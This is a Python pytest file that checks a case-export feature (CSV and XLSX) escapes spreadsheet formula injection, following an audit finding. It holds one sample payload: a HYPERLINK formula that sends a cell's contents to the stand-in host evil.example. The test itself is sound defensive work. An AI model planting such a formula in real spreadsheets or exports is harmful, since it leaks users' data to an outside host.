"""Audit finding 6 for the ЦУР export (export-cases, CSV and XLSX): no live formula in any column."""

from __future__ import annotations

import csv

import pytest
from openpyxl import load_workbook

from otklik.cases.models import Case
from otklik.intake.importing import export_cur43
from otklik.testing.factories import make_agency, make_case

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"Подробнее")'


def no_formula_cells(sheet) -> list:
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells), [c.value for c in cells if c.data_type == "f"]
    return [cell.value for cell in cells]


def test_the_cur_export_neutralizes_every_column(tmp_path):
    make_case(agency=make_agency(name=EVIL), text=f"{EVIL} и яма во дворе")
    export_cur43(Case.objects.all(), tmp_path / "cases.csv")
    rows = list(csv.reader((tmp_path / "cases.csv").open(encoding="utf-8")))
    values = [v for row in rows[1:] for v in row]
    assert "'" + EVIL in values  # the agency's column
    assert all(not v.startswith(("=", "+", "@", "\t", "\r")) for v in values)
    export_cur43(Case.objects.all(), tmp_path / "cases.xlsx")
    values = no_formula_cells(load_workbook(tmp_path / "cases.xlsx").active)
    assert EVIL in values
